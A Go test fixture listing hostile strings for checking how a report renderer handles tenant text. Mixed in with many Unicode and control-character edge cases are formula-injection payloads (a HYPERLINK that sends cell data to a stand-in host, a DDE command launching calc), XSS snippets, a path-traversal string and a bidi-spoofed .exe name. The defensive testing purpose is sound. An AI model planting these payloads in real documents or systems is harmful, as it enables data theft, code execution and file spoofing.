package reporttest

import "strings"

// Hostile are texts that a tenant can hold and that a careless renderer shows wrongly, executes or
// loses: formulas, markup, control and bidi characters, escapes of file formats, long text.
func Hostile() []string {
	return []string{
		`=HYPERLINK("http://contoso.example/?"&A1,"open")`, `=1+1`, `+1+1`, `-1+1`, `@SUM(A1:A9)`, "\t=1+1",
		`=cmd|' /C calc'!A0`, `'quoted`, `_x0041_`, `_x0041_x0042_`, `_x005F_x0041_`, `__x000D__`, `_xzzzz_`,
		`<script>alert(1)</script>`, `</script><img src=x onerror=alert(1)>`, `]]>`, `&amp;&lt;`, `"quoted" 'both'`,
		"nul\x00inside", "bell\aescape\x1b[31mred\x1b[0m", "line\r\nbreak", "tab\there", "next\u0085line", "del\x7f",
		"invoice\u202excod.exe", "\u2066isolate\u2069", "zero\u200bwidth\u200d\ufeff", "soft\u00adhyphen",
		"two\u00a0spaces", "lines\u2028and\u2029paragraphs", "noncharacter\uffff\ufffe", "private\ue000use",
		"hangul\u3164filler", "tag\U000e0041s", "marks ⟪U+202E⟫ and ␀ themselves", "invalid\xffutf8\xc3",
		"family 👩\u200d👧 and flag 🇩🇪", "مجموعة المبيعات", "קבוצה", "グループ　営業", "e\u0301 and \u00e9", "z\u0310\u0311\u0312algo",
		`CN=Sales\, "East" \+ <West>\;,OU=Writeback,DC=contoso,DC=com`, `(&(cn=*)(objectClass=\2a))`, `..\..\etc\passwd`,
		" leading and trailing ", "", strings.Repeat("long ", 13108), strings.Repeat("😀", 20000),
	}
}
